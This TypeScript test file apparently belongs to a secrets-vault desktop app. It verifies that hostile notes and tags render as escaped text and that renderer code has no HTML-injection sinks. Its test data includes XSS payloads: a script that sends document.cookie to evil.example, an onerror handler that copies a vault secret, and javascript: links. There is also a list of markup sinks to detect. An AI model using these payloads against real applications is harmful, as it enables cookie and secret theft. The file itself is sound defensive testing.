/**
 * Notes and tags are text anyone who can write to the vault chooses (the window, `safehold edit
 * --note`, an imported export), and the window shows them to the person who opens the secret: a
 * note holding `<img src=x onerror=…>` or `<script>` would run in the renderer if it were ever
 * made markup, with the bridge to main at hand. The window shows them only as text: they are
 * rendered by NotesText and TagChips as React children, which React escapes, and no renderer file
 * has any way to turn a string into markup (dangerouslySetInnerHTML, innerHTML, outerHTML,
 * insertAdjacentHTML, document.write, createContextualFragment, DOMParser) or a link. Here hostile
 * notes and tags are rendered and come out as the characters they are; and the renderer's sources
 * are held to having no such sink, so a later "linkify" cannot bring one in unnoticed.
 */
import { readFileSync } from 'node:fs'
import { join, relative } from 'node:path'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import ts from 'typescript'
import { describe, expect, it } from 'vitest'
import { NotesText } from '../../src/renderer/src/components/notes-text'
import { TagChips } from '../../src/renderer/src/components/tag-chips'
import { flaggedNodes, sourceFiles } from '../support/source-scan'

const ROOT = join(__dirname, '..', '..')
const RENDERER = join(ROOT, 'src', 'renderer', 'src')

const HOSTILE_NOTES = [
  '<img src=x onerror="window.safehold.secrets.copy({id:1})">',
  '<script>fetch("https://evil.example/?"+document.cookie)</script>',
  '<a href="javascript:alert(1)">Rotate here</a>',
  '"><svg onload=alert(1)>',
  '<style>body{display:none}</style>\nSecond line',
]

/** The element tags in rendered markup. */
function elementsIn(markup: string): string[] {
  return [...markup.matchAll(/<([a-z][a-z0-9-]*)/gi)].map((match) => match[1]!.toLowerCase())
}

/** The attribute names of every element in rendered markup. */
function attributesIn(markup: string): string[] {
  const tags = [...markup.matchAll(/<[a-z][^>]*>/gi)].map((match) => match[0])
  return tags.flatMap((tag) => [...tag.matchAll(/\s([a-z-]+)=/gi)].map((match) => match[1]!))
}

describe('hostile notes and tags in the window', () => {
  for (const notes of HOSTILE_NOTES) {
    it(`shows the note ${JSON.stringify(notes.slice(0, 28))}… as text`, () => {
      const markup = renderToStaticMarkup(createElement(NotesText, { notes }))
      expect(elementsIn(markup)).toEqual(['span'])
      expect(attributesIn(markup)).toEqual(['class'])
      expect(markup).toContain('&lt;')
    })
  }

  it('shows tags as list items of text, whatever they hold', () => {
    // Main refuses such tags; a vault written by other means must still not inject markup.
    const tags = ['<img src=x onerror=alert(1)>', 'javascript:alert(1)', '__proto__']
    const markup = renderToStaticMarkup(createElement(TagChips, { tags }))
    expect(elementsIn(markup)).toEqual(['ul', 'li', 'li', 'li'])
    expect(new Set(attributesIn(markup))).toEqual(new Set(['class', 'aria-label']))
    expect(markup).toContain('&lt;img src=x onerror=alert(1)&gt;')
  })
})

const SINK_PROPERTIES = new Set(['innerHTML', 'outerHTML', 'srcdoc'])
const SINK_CALLS = new Set(['insertAdjacentHTML', 'write', 'writeln', 'createContextualFragment'])

/** Every way in a source file that a string could become markup, as `line: text`. */
function markupSinks(source: string, fileName = 'sample.tsx'): string[] {
  return flaggedNodes(source, fileName, (node) => {
    if (ts.isJsxAttribute(node)) return node.name.getText() === 'dangerouslySetInnerHTML'
    if (ts.isBinaryExpression(node) && node.operatorToken.kind === ts.SyntaxKind.EqualsToken) {
      const target = node.left
      return ts.isPropertyAccessExpression(target) && SINK_PROPERTIES.has(target.name.text)
    }
    if (ts.isCallExpression(node) && ts.isPropertyAccessExpression(node.expression))
      return SINK_CALLS.has(node.expression.name.text)
    if (ts.isNewExpression(node)) return node.expression.getText() === 'DOMParser'
    return false
  })
}

describe('the renderer has no way to make text into markup', () => {
  it('finds each sink in a sample, so the scan can fail', () => {
    const sample = [
      'const a = <div dangerouslySetInnerHTML={{ __html: notes }} />',
      'element.innerHTML = notes',
      'frame.srcdoc = notes',
      'element.insertAdjacentHTML("beforeend", notes)',
      'document.write(notes)',
      'range.createContextualFragment(notes)',
      'new DOMParser().parseFromString(notes, "text/html")',
      '// element.innerHTML = notes is only a comment',
      'const text = "innerHTML"',
    ].join('\n')
    expect(markupSinks(sample)).toHaveLength(7)
  })

  it('holds no sink in any renderer source file', () => {
    const found = sourceFiles(RENDERER).flatMap((file) =>
      markupSinks(readFileSync(file, 'utf8'), file).map((hit) => `${relative(ROOT, file)}:${hit}`),
    )
    expect(found).toEqual([])
  })
})
